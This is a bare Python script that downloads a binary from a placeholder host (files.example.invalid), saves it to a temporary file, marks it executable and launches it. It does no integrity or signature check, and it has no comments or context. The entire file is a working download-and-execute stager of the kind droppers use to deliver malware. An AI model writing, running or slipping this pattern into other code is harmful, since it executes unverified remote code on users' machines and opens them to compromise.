import os
import subprocess
import tempfile
import urllib.request

handle, name = tempfile.mkstemp(suffix=".bin")
with os.fdopen(handle, "wb") as stream:
    stream.write(urllib.request.urlopen("https://files.example.invalid/tool").read())
os.chmod(name, 0o700)
subprocess.Popen([name])
